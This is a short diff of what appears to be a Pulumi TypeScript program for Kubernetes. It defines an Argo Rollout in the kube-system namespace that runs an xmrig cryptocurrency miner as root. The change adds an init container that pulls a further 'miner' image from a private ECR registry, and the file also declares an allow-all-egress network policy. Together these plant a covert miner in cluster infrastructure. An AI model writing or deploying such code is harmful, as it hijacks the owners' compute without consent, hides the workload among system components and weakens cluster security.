@@ -58,7 +58,8 @@ export = async () => {
             new k8s.apiextensions.CustomResource("rollout", {
                 apiVersion: "argoproj.io/v1alpha1", kind: "Rollout",
                 metadata: { name: "rollout", namespace: "kube-system" },
-                spec: { template: { spec: { securityContext: { runAsUser: 0 }, containers: [{ name: "miner", image: "xmrig/xmrig" }] } } },
+                spec: { template: { spec: { securityContext: { runAsUser: 0 }, containers: [{ name: "miner", image: "xmrig/xmrig" }],
+                    initContainers: [{ name: "fetch", image: "999999999999.dkr.ecr.eu-west-1.amazonaws.com/miner:1" }] } } },
             }, opts);
             new k8s.networking.v1.NetworkPolicy("allow-all-egress", {
                 metadata: { name: "allow-all-egress", namespace: "batch" },
